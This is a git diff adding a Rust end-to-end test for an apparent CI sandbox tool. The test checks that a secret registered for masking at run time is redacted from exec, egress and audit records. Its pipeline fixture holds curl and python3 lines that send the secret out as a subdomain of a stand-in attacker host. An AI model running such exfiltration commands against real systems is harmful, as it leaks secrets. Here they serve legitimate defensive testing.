@@ -13,7 +13,7 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::Arc;
 use std::time::Duration;
 
-use common::{job, set_secret, upstream, World};
+use common::{files_under, job, set_secret, upstream, World};
 use hickory_proto::op::{Message, MessageType, ResponseCode};
 use hickory_proto::rr::{rdata, Name, RData, Record, RecordType};
 use serde_json::Value;
@@ -354,6 +354,61 @@ fn e2e_secret_in_a_requested_name_is_redacted_from_egress_events() {
         "audit log: {}",
         audit.stdout
     );
+}
+
+/// A value the job registers for masking and uses at once, with nothing
+/// printed in between (`echo "$TOKEN" > /run/airlock/mask; curl -H
+/// "...$TOKEN" ...`), is masked in the records of what it did next: the
+/// arguments of its execs and the names it asked for. Those records are
+/// made on another thread than the output, which used to read the mask
+/// channel only with the next output (or 100 ms later); the exec and the
+/// connection were recorded first, with the value in them.
+#[test]
+fn e2e_a_value_registered_at_run_time_is_masked_in_records_at_once() {
+    if !have("curl") || !have("python3") {
+        panic!("this test needs curl and python3 on the host (apt-get install curl python3)");
+    }
+    let w = World::new();
+    // Built in the job, so that the pipeline's text does not hold it.
+    let value = "mint1337-reg42-value";
+    let file = w.pipeline(
+        "minted.yml",
+        "version: 1\nname: minted\njobs:\n  use:\n    network: { egress: [\"example.org:443\"] }\n    steps:\n      - run: |\n          v=\"mint$((1000 + 337))-reg$((6 * 7))-value\"\n          printf '%s\\n' \"$v\" > /run/airlock/mask\n          /bin/true \"$v\"\n          curl -s -o /dev/null \"http://$v.attacker.test/\" || true\n          python3 -c 'import socket,sys\n          try: socket.getaddrinfo(sys.argv[1] + \".attacker.test\", 80)\n          except OSError: pass' \"$v\"\n",
+    );
+    let (r, doc) = w.run_json(&file, &[]);
+    assert_eq!(r.code, 0, "stdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
+    let shown = w.show(&doc["run"].to_string());
+    let used = job(&shown, "use");
+    // The execs and the connections were recorded, with the value masked
+    // (in the argv of `true`, `curl` or `python3`: the kernel's copy of a
+    // new program's arguments misses now and then, docs/SECURITY.md).
+    let processes = used["processes"].as_array().unwrap();
+    assert!(
+        processes
+            .iter()
+            .any(|p| p["path"] != "/bin/sh" && p["argv"].as_str().unwrap().contains("***")),
+        "no exec recorded with the value masked: {processes:#?}"
+    );
+    let egress = used["egress"].as_array().unwrap();
+    for kind in ["http", "dns"] {
+        assert!(
+            egress
+                .iter()
+                .any(|e| e["kind"] == kind && e["host"] == "***.attacker.test"),
+            "no masked {kind} denial: {egress:#?}"
+        );
+    }
+    assert!(!shown.to_string().contains(value), "run record: {shown}");
+    let audit = w.airlock(&["audit", "show", "--json"]);
+    assert!(!audit.stdout.contains(value), "audit log: {}", audit.stdout);
+    for f in files_under(w.home.path()) {
+        let bytes = std::fs::read(&f).unwrap();
+        assert!(
+            !bytes.windows(value.len()).any(|b| b == value.as_bytes()),
+            "{} holds the value",
+            f.display()
+        );
+    }
 }
 
 /// A job that floods its DNS responder with queries for unlisted names
